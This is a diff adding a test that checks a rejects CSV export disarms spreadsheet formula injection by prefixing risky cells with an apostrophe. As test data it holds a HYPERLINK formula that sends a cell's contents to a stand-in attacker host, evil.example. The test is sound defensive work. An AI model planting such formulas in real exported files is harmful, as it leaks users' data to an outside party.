@@ -688,6 +688,25 @@ suite('imports › lines', () => {
     assert.match(execution.warnings[0], /"Shoe size"/)
   })
 
+  test('disarms formulas in the file of rejects, whoever named a column and whatever a cell holds', async () => {
+    const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: '=Sum' } })
+    const id = await makeImport()
+    const cell = '"=HYPERLINK(""https://evil.example/?""&A1;""look"")"'
+    const execution = await run(id, `Email;${field.id}\n@no address;${cell}\n-bad;+x\n`)
+    const { text } = await call('GET', `/imports/${id}/executions/${execution.id}/rejects`)
+    assert.equal(
+      text,
+      [
+        'line;reason;column;content',
+        "2;invalid-value;Email;'@no address",
+        `2;invalid-value;'=Sum;"'=HYPERLINK(""https://evil.example/?""&A1;""look"")"`,
+        "3;invalid-value;Email;'-bad",
+        "3;invalid-value;'=Sum;'+x",
+        '',
+      ].join('\n'),
+    )
+  })
+
   test('tells every fault of a line, in a file that is a CSV itself', async () => {
     const { body: field } = await call('POST', '/fields', { body: { type: 'numeric', name: 'Size;"big"' } })
     const id = await makeImport()
